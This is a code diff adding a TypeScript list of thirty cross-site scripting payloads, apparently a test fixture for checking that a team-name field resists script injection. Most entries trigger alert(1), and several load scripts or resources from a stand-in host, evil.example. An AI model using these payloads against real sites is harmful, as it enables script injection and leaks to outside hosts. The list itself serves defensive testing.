@@ -1,0 +1,36 @@
+/**
+ * Thirty known ways to make a text run as a script, none longer than a team name may be. What succeeds
+ * opens a dialog or asks a foreign host; both are watched for.
+ */
+export const scriptPayloads = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '"><script>alert(1)</script>',
+  "'><img src=x onerror=alert(1)>",
+  '<body onload=alert(1)>',
+  '<iframe src=javascript:alert(1)>',
+  '<iframe srcdoc="<script>alert(1)">',
+  '<a href=javascript:alert(1)>x</a>',
+  '[x](javascript:alert(1))',
+  '![x](https://evil.example/x.png)',
+  '<img src=https://evil.example/i.png>',
+  '<link rel=stylesheet href=//e.example>',
+  '<script src=//evil.example></script>',
+  '<object data=//evil.example></object>',
+  '<embed src=javascript:alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<video><source onerror=alert(1)></video>',
+  '<input autofocus onfocus=alert(1)>',
+  '<math href=javascript:alert(1)>x</math>',
+  '<style>@import "//evil.example";</style>',
+  '<p style=background:url(//evil.example)>',
+  '<meta http-equiv=refresh content=0>',
+  '<base href=//evil.example/>',
+  '<form action=javascript:alert(1)><input>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '{{alert(1)}}<x ng-app>',
+  '</title><script>alert(1)</script>',
+  '--><img src=x onerror=alert(1)><!--',
+] as const;
